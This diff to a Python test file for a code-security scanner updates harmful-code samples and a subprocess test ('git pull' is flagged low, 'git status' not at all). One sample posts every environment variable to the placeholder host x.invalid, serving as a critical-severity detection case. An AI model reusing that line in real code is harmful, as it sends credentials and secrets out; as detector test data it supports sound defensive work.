@@ -59,7 +59,7 @@ HARMFUL = [
         "network",
         "sends data",
     ),
-    ("import requests\nrequests.get('https://x.invalid/a.json')", "medium", "network", "x.invalid"),
+    ("import requests\nrequests.get('http://x.invalid/a.json')", "medium", "network", "x.invalid"),
     (
         "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))",
         "critical",
@@ -196,9 +196,11 @@ def test_everyday_code_stays_quiet(code: str) -> None:
 
 
 def test_harmless_subprocess_is_low_at_most() -> None:
-    findings = scan_code("import subprocess\nsubprocess.run(['git', 'status'])", "python")
+    findings = scan_code("import subprocess\nsubprocess.run(['git', 'pull'])", "python")
     assert highest_severity(findings) == "low"
-    assert findings[0].category == "process" and "git status" in findings[0].message
+    assert findings[0].category == "process" and "git pull" in findings[0].message
+    # Only looking (`git status`) is not worth a finding.
+    assert scan_code("import subprocess\nsubprocess.run(['git', 'status'])", "python") == []
 
 
 def test_ipython_shell_escapes_and_magics_are_scanned() -> None:
